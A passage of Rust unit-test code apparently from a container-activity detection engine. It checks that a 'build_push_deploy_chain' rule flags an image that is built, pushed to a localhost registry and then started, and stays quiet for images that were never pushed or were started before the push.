        let (mut e, store) = engine("[rules.deploy_soon_after_build]\nenabled = false\n");
        lineage(&store, "sha256:a", "B1", 0, &[]);
        lineage(&store, "sha256:b", "B2", 0, &[]);
        let push = PushSeen {
            reference: "localhost:5000/app:1".into(),
            digest: Some("sha256:d".into()),
            at: ts(50),
            record_id: 8,
        };
        store.lock().unwrap().add_push("sha256:a", push);
        let mut out = Vec::new();
        e.observe(
            &rec(
                30,
                100,
                container_start("c1", "sha256:a", Some("B1"), Some(100)),
            ),
            &mut out,
        );
        let f = findings(&out);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "build_push_deploy_chain");
        assert_eq!(f[0].analytics, vec!["AN0946"]);
        assert_eq!(f[0].details["registry"], "localhost:5000");
        assert_eq!(f[0].evidence.record_ids, vec![3, 8, 30]);
        out.clear();
        // Built and started but never pushed; or started before the push: quiet.
        e.observe(
            &rec(
                31,
                100,
                container_start("c2", "sha256:b", Some("B2"), Some(100)),
            ),
            &mut out,
        );
        e.observe(
            &rec(
                32,
                40,
                container_start("c3", "sha256:a", Some("B1"), Some(40)),
            ),
            &mut out,
        );
        assert!(out.is_empty(), "{out:?}");
    }
}
